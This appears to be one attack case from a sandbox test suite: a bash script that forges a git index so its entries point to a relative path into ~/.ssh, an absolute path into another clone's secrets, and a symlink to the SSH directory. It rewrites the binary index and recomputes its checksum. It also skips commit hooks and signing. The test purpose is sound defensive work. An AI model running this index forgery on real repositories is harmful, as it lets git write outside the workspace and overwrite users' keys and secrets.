#!/usr/bin/env bash
# attack 37 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
echo x >attack-37.txt; git add attack-37.txt; commit -m 'attack 37'
blob=$(echo forged | git hash-object -w --stdin)
rel=$(realpath -m --relative-to="$TOP" "$H/.ssh/id_test"); abs=$H/secrets/other-clone/file
ln -s "$H/.ssh" attack-37-link
git update-index --index-version 2
for p in "$rel" "$abs" attack-37-link/id_test; do q=$(printf '%s' "$p" | tr / 0); git update-index --add --cacheinfo "100644,$blob,$q"; done
cp .git/index .git/index.attack
R=$rel A=$abs perl -e '
  local $/; open my $f,"<",".git/index.attack"; binmode $f; my $d=<$f>; close $f; my $body=substr($d,0,-20);
  for my $p ($ENV{R},$ENV{A},"attack-37-link/id_test") { (my $q=$p) =~ tr,/,0,; $body =~ s/\Q$q\E\0/$p\0/; }
  open my $o,">",".git/index.body"; binmode $o; print $o $body; close $o;' \
  && { cat .git/index.body; sha1sum <.git/index.body | cut -c1-40 | perl -ne 'chomp; print pack("H*",$_)'; } >.git/index.new && mv -f .git/index.new .git/index
rm -f .git/index.attack .git/index.body
exit 0
